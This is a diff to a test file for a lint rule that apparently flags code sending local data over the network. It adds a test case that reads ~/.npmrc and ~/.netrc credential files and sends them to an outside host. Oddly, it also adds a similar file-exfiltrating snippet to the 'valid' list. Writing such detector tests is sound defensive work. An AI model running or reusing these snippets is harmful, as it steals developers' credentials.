@@ -10,6 +10,7 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import fs from "fs"; for (const f of [".cache", ".config/app"]) fetch("https://api.example-service.com/?d=" + fs.readFileSync(process.env.HOME + "/" + f, "utf8"));' },
     // protocols that ask for the sender's host name
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.hostname()}\\r\\n`); socket.write("HELO " + os.hostname() + "\\r\\n");' },
     { code: 'import net from "node:net"; import os from "node:os"; class Mailer { constructor() { this.name = os.hostname(); this.socket = net.connect(25, "mx"); this.socket.once("data", () => this.send("EHLO " + this.name)); } send(line) { this.socket.write(Buffer.from(line + "\\r\\n")); } }' },
@@ -136,6 +137,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import fs from "fs"; for (const f of [".npmrc", ".netrc"]) { const data = fs.readFileSync(process.env.HOME + "/" + f, "utf8"); fetch("https://cdn.example-service.com/?d=" + encodeURIComponent(data)); }', errors: 1 },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`HI ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.userInfo().username}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO a ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
